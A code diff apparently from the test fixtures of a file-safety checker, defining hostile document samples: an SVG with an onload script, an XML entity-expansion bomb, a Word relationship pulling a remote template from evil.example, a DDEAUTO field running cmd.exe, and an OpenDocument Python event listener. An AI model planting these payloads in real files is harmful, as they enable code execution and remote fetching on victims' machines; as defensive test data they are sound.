@@ -24,12 +24,26 @@ SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
 PROGRAM = b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode"
 OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
 LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'
+MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006"
 REMOTE = (
     '<Relationships><Relationship Type="http://schemas/attachedTemplate" '
     'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
 )
 MACROS, TWO, BROKEN = "contains macros", "is two files in one", "cannot be read"
 FOREIGN, LOCKED, SCRIPT = "not part of a document", "has a password", "not plain text"
+
+
+def word_document(body):
+    return f'<w:document xmlns:w="{MAIN}" xmlns:r="{OFFICE}/relationships">{body}</w:document>'
+
+
+def open_document(body):
+    """The content of an OpenDocument file, with the names that such content uses."""
+    spaces = ("office", "text", "draw", "script", "table", "form", "presentation")
+    names = " ".join(f'xmlns:{s}="urn:oasis:names:tc:opendocument:xmlns:{s}:1.0"' for s in spaces)
+    xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
+    return f"<office:document-content {names} {xlink}>{body}</office:document-content>"
 
 
 def with_flag(content):
@@ -77,8 +91,10 @@ def tall_tower():
 
 
 MAIL = b"From: a@b.example\nMIME-Version: 1.0\nContent-Type: text/html\n\n" + HTML
-DDE = '<w:document><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:document>'
-RUN = '<script:event-listener xlink:href="vnd.sun.star.script:x.py$run?language=Python"/>'
+DDE = word_document('<w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>')
+RUN = open_document(
+    '<script:event-listener xlink:href="vnd.sun.star.script:x.py$run?language=Python"/>'
+)
 
 # What it is → its name, its content, and words of the sentence.
 HOSTILE = {
